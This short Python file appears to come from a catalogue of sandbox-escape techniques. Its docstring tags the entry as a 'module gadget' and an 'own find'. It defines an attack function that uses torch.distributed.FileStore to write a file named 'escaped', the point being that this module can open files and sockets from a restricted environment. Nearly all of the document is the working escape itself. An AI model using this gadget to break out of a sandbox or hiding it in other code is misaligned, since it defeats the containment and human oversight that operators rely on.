"""Class: module gadget. Source: own find. Escape: torch.distributed opens sockets and files."""

import torch


def attack(model, tokenizer, address):
    store = torch.distributed.FileStore("escaped", 1)
    store.set("x", "y")
